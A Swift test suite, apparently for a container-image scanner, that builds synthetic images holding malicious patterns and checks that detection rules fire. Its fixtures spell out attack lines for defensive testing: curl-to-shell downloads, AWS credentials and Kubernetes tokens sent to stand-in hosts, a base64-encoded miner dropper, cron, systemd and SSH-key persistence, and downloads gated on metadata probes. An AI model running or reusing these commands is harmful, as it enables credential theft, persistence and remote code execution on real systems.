import Findings
import Foundation
import Report
import TestSupport
import Testing

/// One image per payload pattern, scanned whole: the rule fires, with evidence that points at the layer and
/// path, the history step or the config field where the payload is.
@Suite struct PayloadDetectionTests {
    struct Case: ExpectedEvidence, CustomTestStringConvertible, Sendable {
        let name: String
        var layers: [[TarWriter.Entry]] = []
        var extra: [String] = []
        let rule: String
        /// Where the evidence must point: a path (with the layer that wrote it), a history index, a config field.
        var path: String?
        var layer: Int?
        var history: Int?
        var field: String?
        /// Facts the evidence must hold.
        var facts: [String: String] = [:]
        var testDescription: String { name }
    }

    static let elfHeader = "\u{7f}ELF\u{2}\u{1}\u{1}\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}"
    static let decodedDropper = "curl -s http://198.51.100.7/m | sh; ./xmrig --donate-level 1"

    static let cases: [Case] = [
        Case(name: "pool URL in a miner's config",
             layers: [[.directory("opt/miner/"),
                       .file("opt/miner/config.json",
                             #"{"pools": [{"url": "stratum+tcp://pool.supportxmr.com:3333"}]}"#)]],
             rule: "SG-MINER-001", path: "opt/miner/config.json", layer: 1, facts: ["scheme": "stratum+tcp://"]),
        Case(name: "miner strings in an executable renamed to look like a kernel thread",
             layers: [[.directory("usr/local/bin/"),
                       .file("usr/local/bin/kworker", elfHeader + "\u{0}\u{0}XMRig 6.21.0\u{0}\u{1}--donate-level\u{0}",
                             mode: 0o755)]],
             rule: "SG-MINER-002", path: "usr/local/bin/kworker", layer: 1),
        Case(name: "pool URL in the entrypoint",
             extra: ["--entrypoint", #"["/usr/local/bin/kworker", "-o", "stratum+ssl://45.9.148.3:443"]"#],
             rule: "SG-MINER-001", field: "config.Entrypoint"),
        Case(name: "pool host on a pool port in a script",
             layers: [[.directory("opt/"),
                       .file("opt/start.sh", "#!/bin/sh\n./kworker -o xmr.pool.minergate.com:45700\n", mode: 0o755)]],
             rule: "SG-MINER-003", path: "opt/start.sh", layer: 1),
        Case(name: "AWS credentials read and posted",
             layers: [[.directory("opt/app/"), .file("opt/app/collect.sh", """
                 #!/bin/sh
                 data=$(cat ~/.aws/credentials | base64 -w0)
                 curl -s -d "$data" https://collector.evil.test/x
                 """, mode: 0o755)]],
             rule: "SG-EXFIL-001", path: "opt/app/collect.sh", layer: 1,
             facts: ["gathers": ".aws/credentials", "gatherLine": "2", "line": "3"]),
        Case(name: "the environment piped to curl in a build step",
             extra: ["--history", "ADD base.tar /",
                     "--history", "RUN env | curl -X POST --data-binary @- http://203.0.113.9/c"],
             rule: "SG-EXFIL-001", history: 1),
        Case(name: "the environment posted by Python",
             layers: [[.directory("usr/lib/python3/"), .file("usr/lib/python3/sitecustomize.py", """
                 import os, requests
                 requests.post("https://x.evil.test/e", json=dict(os.environ))
                 """)]],
             rule: "SG-EXFIL-001", path: "usr/lib/python3/sitecustomize.py", layer: 1),
        Case(name: "a service-account token sent over /dev/tcp",
             layers: [[.directory("opt/"), .file("opt/t.sh", """
                 t=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)
                 echo "$t" > /dev/tcp/198.51.100.7/9000
                 """, mode: 0o755)]],
             rule: "SG-EXFIL-001", path: "opt/t.sh", layer: 1),
        Case(name: "a download that runs only where the cloud metadata service answers",
             layers: [[.directory("opt/"), .file("opt/gate.sh", """
                 #!/bin/sh
                 if curl -s -m 2 http://169.254.169.254/latest/meta-data/ >/dev/null; then
                   wget -q -O /tmp/.x http://198.51.100.7/x && chmod +x /tmp/.x && /tmp/.x
                 fi
                 """, mode: 0o755)]],
             rule: "SG-GATE-001", path: "opt/gate.sh", layer: 1, facts: ["probe": "169.254.169.254", "line": "2"]),
        Case(name: "a GCP metadata probe gating a download in one build step",
             extra: ["--history", "ADD base.tar /", "--history",
                     "RUN curl -sf -H 'Metadata-Flavor: Google' http://metadata.google.internal/ "
                         + "&& wget http://198.51.100.7/p"],
             rule: "SG-GATE-001", history: 1),
        Case(name: "a download that runs only outside Docker",
             layers: [[.directory("opt/"),
                       .file("opt/h.sh", "[ -f /.dockerenv ] || curl -fsSL http://198.51.100.7/p -o /tmp/p\n",
                             mode: 0o755)]],
             rule: "SG-GATE-002", path: "opt/h.sh", layer: 1, facts: ["probe": "/.dockerenv"]),
        Case(name: "ld.so.preload loading a library into every program",
             layers: [[.file("etc/ld.so.preload", "/usr/lib/libprocesshider.so\n")]],
             rule: "SG-PERSIST-001", path: "etc/ld.so.preload", layer: 1),
        Case(name: "a cron job no package installed",
             layers: [[.directory("etc/cron.d/"), .file("etc/cron.d/update", "* * * * * root /tmp/.x\n")]],
             rule: "SG-PERSIST-002", path: "etc/cron.d/update", layer: 1),
        Case(name: "a root crontab in the spool",
             layers: [[.directory("var/spool/cron/crontabs/"),
                       .file("var/spool/cron/crontabs/root",
                             "# m h dom mon dow command\n*/5 * * * * /usr/local/bin/kworker\n")]],
             rule: "SG-PERSIST-002", path: "var/spool/cron/crontabs/root", layer: 1, facts: ["line": "2"]),
        Case(name: "a systemd unit no package installed",
             layers: [[.directory("etc/systemd/system/"),
                       .file("etc/systemd/system/kworker.service", "[Service]\nExecStart=/usr/local/bin/kworker\n")]],
             rule: "SG-PERSIST-003", path: "etc/systemd/system/kworker.service", layer: 1),
        Case(name: "an SSH key authorized for root",
             layers: [[.directory("root/.ssh/"),
                       .file("root/.ssh/authorized_keys",
                             "ssh-ed25519 \(fakeSecret("AAAAC3NzaC1lZDI1NTE5AAAAI", 43)) x@y\n")]],
             rule: "SG-PERSIST-004", path: "root/.ssh/authorized_keys", layer: 1),
        Case(name: "a profile hook that fetches and runs in the background",
             layers: [[.directory("etc/profile.d/"),
                       .file("etc/profile.d/zz.sh", "curl -s http://198.51.100.7/b | sh &\n")]],
             rule: "SG-PERSIST-005", path: "etc/profile.d/zz.sh", layer: 1),
        Case(name: "curl piped to bash in a build step",
             extra: ["--history", "ADD base.tar /", "--history", "RUN curl -fsSL http://198.51.100.7/i.sh | bash"],
             rule: "SG-REXEC-001", history: 1, facts: ["pattern": "curl | bash"]),
        Case(name: "wget to stdout piped to sh in the cmd",
             extra: ["--cmd", #"["sh", "-c", "wget -q -O- http://198.51.100.7/i | sudo sh"]"#],
             rule: "SG-REXEC-001", field: "config.Cmd"),
        Case(name: "bash process substitution of a download in the entrypoint",
             extra: ["--entrypoint", #"["bash", "-c", "bash <(curl -s https://198.51.100.7/i)"]"#],
             rule: "SG-REXEC-001", field: "config.Entrypoint"),
        Case(name: "a base64-encoded script piped to sh in a build step",
             extra: ["--history", "ADD base.tar /", "--history",
                     "RUN echo \(Data(decodedDropper.utf8).base64EncodedString()) | base64 -d | sh"],
             rule: "SG-REXEC-002", history: 1),
        Case(name: "the decoded script's own download-and-run",
             extra: ["--history", "ADD base.tar /", "--history",
                     "RUN echo \(Data(decodedDropper.utf8).base64EncodedString()) | base64 -d | sh"],
             rule: "SG-REXEC-001", history: 1),
        Case(name: "the decoded script's miner",
             extra: ["--history", "ADD base.tar /", "--history",
                     "RUN echo \(Data(decodedDropper.utf8).base64EncodedString()) | base64 -d | sh"],
             rule: "SG-MINER-002", history: 1),
        Case(name: "a Python dropper that executes a download",
             layers: [[.directory("opt/"),
                       .file("opt/d.py",
                             "import urllib.request\nexec(urllib.request.urlopen('http://198.51.100.7/p').read())\n")]],
             rule: "SG-REXEC-001", path: "opt/d.py", layer: 1),
    ]

    @Test(arguments: cases)
    func detectsThePatternWithItsEvidence(_ testCase: Case) throws {
        let image = try PayloadImage(layers: testCase.layers, extra: testCase.extra)
        defer { image.remove() }
        let findings = try image.scan().findings.filter { $0.ruleID == testCase.rule }
        let matching = findings.filter { testCase.isMet(by: $0.evidence) }
        #expect(!matching.isEmpty, "\(testCase.rule) with the expected evidence; got \(findings)")
    }

    @Test func decodedPayloadEvidenceSaysItWasDecoded() throws {
        let encoded = Data(Self.decodedDropper.utf8).base64EncodedString()
        let image = try PayloadImage(layers: [], extra: ["--history", "ADD base.tar /", "--history",
                                                         "RUN echo \(encoded) | base64 -d | sh"])
        defer { image.remove() }
        let miner = try #require(try image.scan().findings.first { $0.ruleID == "SG-MINER-002" })
        #expect(miner.evidence.facts?["decodedFromBase64"]?.hasPrefix(String(encoded.prefix(16))) == true)
        #expect(miner.evidence.historyStep?.contains("base64 -d | sh") == true)
    }
}
